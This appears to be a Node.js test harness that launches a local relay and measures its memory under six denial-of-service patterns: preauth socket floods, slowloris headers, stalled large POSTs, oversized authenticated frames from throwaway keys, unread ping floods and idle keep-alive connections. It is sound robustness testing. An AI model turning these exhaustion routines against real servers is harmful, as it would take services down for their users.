// Item 2: memory exhaustion, each attack against a fresh relay; relay VmRSS before / peak / settled.
// Usage: node 03-memory.mjs [attackName ...]   (default: all)
import { startRelay, keypair, authFrame, sleep, rawSocket, req, signHeaders } from './lib.mjs';
import { rawConnect, frame } from './rawws.mjs';

const attacks = {
  // A: 2000 unauthenticated sockets, each with an unfinished frame just under the 8 KiB cut
  async preauthMany(base) {
    const socks = [];
    for (let i = 0; i < 2000; i++) {
      try {
        const s = await rawConnect(base, { read: false });
        const f = frame(1, Buffer.alloc(60000, 0x20));
        s.write(f.subarray(0, 8000));
        socks.push(s);
      } catch { break; }
    }
    return { socks, note: `${socks.length} sockets opened` };
  },
  // B: slowloris headers, 2000 sockets, one header byte per second
  async slowHeaders(base) {
    const socks = [];
    for (let i = 0; i < 2000; i++) {
      const s = await rawSocket(base);
      s.write('GET /v1/health HTTP/1.1\r\nHost: x\r\nX-A: ');
      socks.push(s);
    }
    const iv = setInterval(() => { for (const s of socks) if (!s.destroyed) s.write('a'); }, 1000);
    return { socks, stop: () => clearInterval(iv) };
  },
  // C: 300 signed-looking POSTs declaring 2 MiB, sending 2 MiB - 1, then stalling
  async stalledPosts(base) {
    const u = new URL(base);
    const socks = [];
    const kp = keypair();
    const statuses = {};
    for (let i = 0; i < 300; i++) {
      const s = await rawSocket(base);
      const h = signHeaders(kp, 'POST', '/v1/messages', Buffer.alloc(0));
      s.write(`POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${2 * 1048576}\r\nX-M2M-Public-Key: ${h['x-m2m-public-key']}\r\nX-M2M-Timestamp: ${h['x-m2m-timestamp']}\r\nX-M2M-Signature: ${h['x-m2m-signature']}\r\n\r\n`);
      s.write(Buffer.alloc(2 * 1048576 - 1, 0x20));
      s.on('data', (d) => { const st = String(d).slice(9, 12); statuses[st] = (statuses[st] || 0) + 1; });
      socks.push(s);
    }
    return { socks, note: () => `answers: ${JSON.stringify(statuses)}` };
  },
  // D: FREE KEYS: 30 sockets, each authenticates with a fresh key, then an unfinished 7.9 MiB frame
  async authedBigFrames(base) {
    const socks = [];
    for (let i = 0; i < 30; i++) {
      const s = await rawConnect(base, { read: false });
      s.write(frame(1, authFrame(keypair())));
      await sleep(30);
      const f = frame(1, Buffer.alloc(Math.floor(7.9 * 1048576), 0x20));
      s.write(f.subarray(0, f.length - 10));
      socks.push(s);
    }
    return { socks, note: '30 fresh keys' };
  },
  // E: FREE KEYS: 10 sockets x 2 MiB inline sends... to themselves, never reading; see what is queued
  async authedNoRead(base) {
    const socks = [];
    for (let i = 0; i < 10; i++) {
      const kp = keypair();
      const s = await rawConnect(base, { read: false });
      s.write(frame(1, authFrame(kp)));
      await sleep(30);
      // 200 JSON pings with 1 KiB ts each and 100 bad frames answered with error frames, never read
      const ping = frame(1, `{"type":"ping","ts":"${'x'.repeat(1000)}"}`);
      for (let j = 0; j < 20; j++) s.write(Buffer.concat(Array(500).fill(ping)));
      socks.push(s);
    }
    return { socks };
  },
  // F: 5000 idle keep-alive HTTP connections after one request each
  async idleKeepAlive(base) {
    const socks = [];
    for (let i = 0; i < 5000; i++) {
      const s = await rawSocket(base);
      s.write('GET /v1/health/live HTTP/1.1\r\nHost: x\r\n\r\n');
      socks.push(s);
    }
    return { socks };
  },
};

const names = process.argv.slice(2).length ? process.argv.slice(2) : Object.keys(attacks);
for (const name of names) {
  const relay = await startRelay(`/tmp/rt/m03-${name}-${process.pid}`);
  await sleep(1500);
  const before = relay.rss();
  let peak = before;
  const iv = setInterval(() => { peak = Math.max(peak, relay.rss() || 0); }, 100);
  const t0 = Date.now();
  const r = await attacks[name](relay.url);
  const afterAttack = relay.rss();
  await sleep(12000);
  const held = relay.rss();
  const openNow = r.socks.filter((s) => !s.destroyed && !s.ended).length;
  r.stop?.();
  for (const s of r.socks) s.destroy();
  await sleep(1500);
  clearInterval(iv);
  const live = await req(relay.url, 'GET', '/v1/health/live', { timeout: 3000 });
  const note = typeof r.note === 'function' ? r.note() : r.note ?? '';
  console.log(`${name}: RSS before ${before.toFixed(0)} MB, right after ${afterAttack.toFixed(0)}, peak ${peak.toFixed(0)} (+${(peak - before).toFixed(0)}), after 12 s ${held.toFixed(0)} (+${(held - before).toFixed(0)}); sockets still open after 12 s: ${openNow}/${r.socks.length}; attack took ${((Date.now() - t0) / 1000).toFixed(1)} s; alive ${relay.alive && live.status === 200} ${note}`);
  await relay.stop();
}
process.exit(0);
